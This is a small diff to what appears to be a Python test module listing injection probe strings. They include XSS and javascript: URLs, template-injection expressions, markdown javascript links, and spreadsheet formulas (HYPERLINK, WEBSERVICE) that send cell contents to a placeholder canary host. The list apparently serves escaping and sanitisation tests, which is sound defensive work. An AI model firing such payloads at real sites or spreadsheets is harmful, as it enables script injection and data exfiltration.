@@ -52,7 +52,8 @@ _ALONE = ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "{{
           "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "<!--", "<![CDATA[", "<!doctype html>",
           "&lt;b&gt;",
           "&#60;script&#62;", "&", "&amp;amp;", "<", ">", '"', "'", "`", "</", "<?xml?>", "url(//canary.invalid/u)",
-          "#main", "https://canary.invalid/", "//canary.invalid/", "[x](javascript:alert(1))", "![x](//canary.invalid/m.png)")
+          "#main",
+          "https://canary.invalid/", "//canary.invalid/", "[x](javascript:alert(1))", "![x](//canary.invalid/m.png)")
 MARKUP: tuple[str, ...] = (*(opening + action for opening, action in product(_BREAKS, _ACTIONS)), *_ALONE)
 
 _BODIES = ("1+1", "SUM(A1:A9)", f'HYPERLINK("https://{CANARY}/?"&A1,"x")', f'WEBSERVICE("https://{CANARY}/")',
